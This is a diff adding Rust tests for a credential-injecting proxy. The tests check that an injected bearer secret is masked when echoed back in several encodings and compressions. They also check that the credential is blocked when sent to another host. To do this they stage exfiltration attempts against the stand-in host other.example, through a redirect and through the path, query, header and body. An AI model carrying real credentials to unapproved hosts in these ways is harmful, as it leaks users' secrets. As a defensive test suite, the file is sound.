@@ -1,0 +1,103 @@
+//! A credential on its way: injected at its own place, masked where it is echoed, stopped everywhere else.
+
+use http::StatusCode;
+use reeve_api::contract::operations::RowStateDto;
+use reeve_demo::script::{Coding, Route, Script};
+use reeve_testkit::agent::Speak;
+use reeve_tests::stage::{Setting, Stage};
+
+use super::{get, post};
+
+const SECRET: &str = "acme-real-\"quoted\"-77aa88bb99ccdd";
+const HOST: &str = "api.acme.example";
+/// Lifts the question about the first use, which is another test's subject.
+const TRUSTED: &str = r#"
+@id("acme-is-fine") @lifts("ask-first-credential, ask-first-write")
+permit (principal, action == Action::"http.request", resource == Host::"api.acme.example");
+"#;
+
+async fn stage(script: Script) -> (Stage, String) {
+    let stage = Stage::set(Setting { script, policy: TRUSTED, ..Setting::default() }).await.unwrap();
+    let placeholder = stage.store_bearer("acme", "ACME_LOGIN", HOST, SECRET).await.unwrap();
+    (stage, placeholder)
+}
+
+fn echo(chunk: usize) -> Route {
+    let forms = ["header", "base64", "hex", "percent"].map(|form| format!("<{{{form}:authorization}}>"));
+    Route {
+        host: HOST.to_owned(),
+        headers: vec![("x-echo".to_owned(), "{header:authorization}".to_owned())],
+        body: format!("begin {} end", forms.join(" ")),
+        chunk,
+        ..Route::default()
+    }
+}
+
+#[tokio::test]
+async fn an_echo_is_masked_in_every_form_and_coding_also_one_byte_at_a_time() {
+    for coding in [None, Some(Coding::Gzip), Some(Coding::Br), Some(Coding::Zstd), Some(Coding::Deflate)] {
+        for chunk in [0, 1] {
+            let (stage, placeholder) = stage(Script { coding, ..Script::default().with_route(echo(chunk)) }).await;
+            let (agent, _) = stage.agent("tester").await.unwrap();
+            let mut request = get(&format!("https://{HOST}/echo"), Some(&placeholder));
+            request.headers_mut().insert("accept-encoding", "gzip, br, zstd, deflate".parse().unwrap());
+            let reply = agent.send(Speak::H2, request).await.unwrap();
+            let arrived = &stage.provider.requests()[0];
+            assert_eq!(arrived.header("authorization"), Some(format!("Bearer {SECRET}").as_str()));
+            let text = format!("{:?} {}", reply.headers, reply.text());
+            assert!(reply.whole && reply.text().starts_with("begin ") && reply.text().ends_with(" end"), "{text}");
+            let hex: String = SECRET.bytes().map(|b| format!("{b:02x}")).collect();
+            for part in [SECRET, &hex, "77aa88bb99ccdd"] {
+                assert!(!text.contains(part), "{coding:?} in chunks of {chunk}: {text}");
+            }
+            // `Bearer ` shifts the base64 form by one byte: the core of it in that alignment.
+            assert!(!text.contains("YWNtZS1yZWFs") && !text.contains("NzdhYTg4Ymi"), "{text}");
+            assert_eq!(reply.headers.get("content-encoding"), None, "a masked answer travels as it is");
+        }
+    }
+}
+
+#[tokio::test]
+async fn a_placeholder_that_follows_a_redirect_to_another_host_is_stopped_there() {
+    let there = Route {
+        host: HOST.to_owned(),
+        status: 302,
+        headers: vec![("location".to_owned(), "https://other.example/collect".to_owned())],
+        ..Route::default()
+    };
+    let (stage, placeholder) = stage(Script::default().with_route(there)).await;
+    let (agent, _) = stage.agent("tester").await.unwrap();
+    let first = agent.send(Speak::H1, get(&format!("https://{HOST}/go"), Some(&placeholder))).await.unwrap();
+    assert_eq!(first.status, StatusCode::FOUND);
+    let location = first.headers["location"].to_str().unwrap().to_owned();
+    let second = agent.send(Speak::H1, get(&location, Some(&placeholder))).await.unwrap();
+    assert!(second.status.is_client_error(), "{second:?}");
+    assert!(second.text().contains("Reeve denied this"), "{}", second.text());
+    assert!(stage.provider.requests().iter().all(|r| r.host != "other.example"), "the other host was contacted");
+    let rows = stage.rows("host:other.example").await.unwrap();
+    assert_eq!(rows.iter().map(|row| row.state).collect::<Vec<_>>(), [RowStateDto::Denied]);
+}
+
+#[tokio::test]
+async fn a_placeholder_or_the_secret_itself_is_stopped_in_path_query_header_and_body() {
+    let (stage, placeholder) = stage(Script::default()).await;
+    let (agent, _) = stage.agent("tester").await.unwrap();
+    for carried in [placeholder.as_str(), SECRET] {
+        let encoded: String = carried.bytes().map(|b| format!("%{b:02x}")).collect();
+        let body = serde_json::json!({ "note": carried });
+        let attempts = [
+            get(&format!("https://other.example/{encoded}"), None),
+            get(&format!("https://other.example/x?q={encoded}"), None),
+            get("https://other.example/x", Some(carried)),
+            post("https://other.example/x", &body),
+        ];
+        for attempt in attempts {
+            let shown = format!("{attempt:?}");
+            let reply = agent.send(Speak::H1, attempt).await.unwrap();
+            assert!(reply.status.is_client_error(), "{}: {shown}", reply.status);
+            assert!(!reply.text().contains(SECRET), "the refusal repeats the secret");
+        }
+    }
+    assert!(stage.provider.requests().is_empty(), "something arrived: {:?}", stage.provider.requests());
+    stage.verify().await.unwrap();
+}
